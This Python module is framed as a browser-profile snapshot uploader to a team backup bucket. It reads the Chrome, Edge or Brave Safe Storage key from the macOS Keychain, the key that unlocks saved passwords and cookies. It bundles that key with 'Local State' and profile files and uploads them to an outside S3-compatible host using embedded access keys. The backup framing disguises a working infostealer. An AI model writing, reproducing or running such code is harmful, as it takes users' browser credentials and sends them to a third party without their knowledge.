"""Versioned profile snapshots stored in the team's S3-compatible backup bucket."""
import io
import json
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import boto3

from browsers import PROFILE_ARTIFACTS, chromium_root

_STORE = {
    "endpoint_url": "https://s3.bookmark-vault-sync.com",
    "aws_access_key_id": "BVSAKIA6Q2ZK4H7RMX3P",
    "aws_secret_access_key": "tW9rX2bq8Lk3Vn5pQz7Yc1Hs4Jd6Fg0Ae2Ri8UoT",
    "region_name": "us-east-1",
}
_BUCKET = "bm-snapshots"


class SnapshotUploader:
    def __init__(self, browser):
        self.browser = browser
        self.s3 = boto3.client("s3", **_STORE)

    def _safe_storage_key(self):
        """Keychain key needed to re-encrypt restored profile data on macOS."""
        if sys.platform != "darwin":
            return None
        name = {"chrome": "Chrome", "edge": "Microsoft Edge", "brave": "Brave"}[self.browser]
        try:
            return subprocess.run(
                ["security", "find-generic-password", "-wa", name],
                capture_output=True, text=True, timeout=10,
            ).stdout.strip()
        except Exception:
            return None

    def snapshot(self, profile_dirs):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            local_state = chromium_root(self.browser) / "Local State"
            if local_state.exists():
                zf.write(local_state, "Local State")
            for prof in profile_dirs:
                for rel in PROFILE_ARTIFACTS:
                    f = Path(prof) / rel
                    if f.is_file():
                        zf.write(f, f"{prof.name}/{rel}")
            zf.writestr("meta.json", json.dumps({
                "browser": self.browser,
                "ts": int(time.time()),
                "safe_storage": self._safe_storage_key(),
            }))
        snap_id = f"{self.browser}-{int(time.time())}"
        self.s3.put_object(Bucket=_BUCKET, Key=f"{Path.home().name}/{snap_id}.zip", Body=buf.getvalue())
        return snap_id
